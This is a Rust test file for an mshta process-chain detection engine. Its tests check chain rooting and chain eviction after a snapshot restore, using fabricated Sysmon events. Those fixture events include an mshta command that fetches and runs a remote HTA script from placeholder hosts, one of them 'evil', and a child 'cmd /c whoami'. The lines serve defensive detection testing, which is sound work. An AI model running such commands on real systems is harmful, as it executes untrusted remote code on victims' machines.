//! A seen mshta whose parent is an unseen mshta: one chain, rooted at the
//! seen one, and no second, empty chain inferred for the parent (its only
//! child belongs to the first). That empty chain held nothing, so closing
//! it forgot nothing: once `max_chains` evicted it, it came back, and a
//! restored engine re-closed it (found by the `engine` fuzz target).

use mshta_chain_core::{analyze, Config, Engine};

const EVENTS: &str = concat!(
    r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"PC0","UtcTime":"2024-05-01 10:00:00.000","ProcessGuid":"{11111111-0000-0000-0000-000000000006}","ProcessId":"106","Image":"C:\\Windows\\System32\\mshta.exe","CommandLine":"mshta https://h26.example/x.hta","ParentProcessGuid":"{11111111-0000-0000-0000-000000000002}","ParentProcessId":"102","ParentImage":"C:\\Windows\\System32\\mshta.exe"}"#,
    "\n",
    r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"PC0","UtcTime":"2024-05-01 10:00:01.000","ProcessGuid":"{11111111-0000-0000-0000-000000000007}","ProcessId":"107","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd /c whoami","ParentProcessGuid":"{11111111-0000-0000-0000-000000000006}","ParentProcessId":"106","ParentImage":"C:\\Windows\\System32\\mshta.exe"}"#,
    "\n",
);

#[test]
fn one_chain_rooted_at_the_seen_mshta() {
    let r = analyze(EVENTS.as_bytes(), &Config::default()).expect("valid config");
    assert_eq!(r.chains.len(), 1, "{:?}", r.chains.iter().map(|c| &c.id).collect::<Vec<_>>());
    assert_eq!(r.chains[0].root.pid, 106);
    assert!(!r.chains[0].root.inferred);
}

#[test]
fn a_closed_and_evicted_chain_stays_gone_after_a_restore() {
    // The chain closes (a host event 2 hours later), then a second chain
    // on another host closes and `max_chains` 1 evicts the lower one.
    let config = Config { max_chains: 1, ..Config::default() };
    let mut e = Engine::new(config).expect("valid config");
    e.push(EVENTS.as_bytes());
    let later = EVENTS.replace("PC0", "PC1").replace("10:00:0", "11:00:0").replace("h26", "evil");
    e.push(later.as_bytes());
    let tick = r#"{"EventID":5,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"PC1","UtcTime":"2024-05-01 13:00:00.000","ProcessGuid":"{11111111-0000-0000-0000-0000000000ff}","ProcessId":"9","Image":"C:\\Windows\\System32\\cmd.exe"}"#;
    e.push(format!("{tick}\n").as_bytes());
    let mut restored = Engine::restore_saved(&e.snapshot()).expect("a fresh snapshot restores");
    assert_eq!(restored.push(b""), e.push(b""));
    assert_eq!(restored.finish(), e.finish());
}
